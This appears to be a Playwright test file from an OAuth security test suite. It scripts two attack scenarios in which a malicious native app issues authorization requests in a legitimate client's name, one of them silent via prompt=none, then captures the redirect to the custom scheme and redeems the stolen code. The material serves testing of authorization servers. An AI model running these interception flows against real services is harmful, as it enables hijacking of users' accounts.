import type { Page } from "@playwright/test";
import { ALICE, NATIVE_CALLBACK, SCOPE } from "../../../src/grants/cast.ts";
import { s256 } from "../../../src/oauth/pkce.ts";
import { randomToken } from "../../../src/oauth/random.ts";
import { withQuery } from "../../../src/oauth/wire.ts";
import { lootIn, spendLoot } from "../attacker.ts";
import { signInAndAllow, signInToPrint } from "../people.ts";
import type { RealAttack, Scene } from "../scene.ts";

const note =
  "which app a phone opens is no browser’s decision; the attacker reads the address the browser was sent to";

/** Mallory's app opens the browser with a request in Print's name, and Alice says yes to “Print”. */
export const ownRequest: RealAttack = {
  note,
  async run(scene) {
    const { link, verifier } = await request(scene, {});
    await scene.alice.goto(link);
    const answer = answerOf(scene.alice);
    await signInAndAllow(scene.alice, ALICE);
    return spent(scene, await answer, verifier);
  },
};

/** The same for a user who is signed in and allowed Print before; `prompt=none` asks for no page. */
export const silentRequest: RealAttack = {
  note,
  async run(scene) {
    await signInToPrint(scene.alice, scene.sites, ALICE);
    const { link, verifier } = await request(scene, { prompt: "none" });
    const answer = answerOf(scene.alice);
    // A browser on a desk has no app for the scheme, and gives up where a phone would open one.
    await scene.alice.goto(link).catch(() => null);
    return spent(scene, await answer, verifier);
  },
};

async function request(
  { target: { client, pkce }, sites }: Scene,
  more: Readonly<Record<string, string>>,
) {
  const verifier = pkce ? randomToken() : undefined;
  const link = withQuery(`${sites.origins.auth}/authorize`, {
    response_type: client.answer,
    client_id: client.id,
    redirect_uri: NATIVE_CALLBACK,
    scope: SCOPE,
    ...(verifier === undefined
      ? {}
      : { code_challenge: await s256(verifier), code_challenge_method: "S256" }),
    ...more,
  });
  return { link, verifier };
}

/** The address of the first redirect to the app's scheme. */
async function answerOf(page: Page): Promise<string> {
  const response = await page.waitForResponse((one) =>
    (one.headers()["location"] ?? "").startsWith(NATIVE_CALLBACK),
  );
  return response.headers()["location"] ?? "";
}

function spent(scene: Scene, answer: string, verifier: string | undefined) {
  const own = verifier === undefined ? {} : { verifier };
  return spendLoot(scene, lootIn([answer]), { redirectUri: NATIVE_CALLBACK, ...own });
}
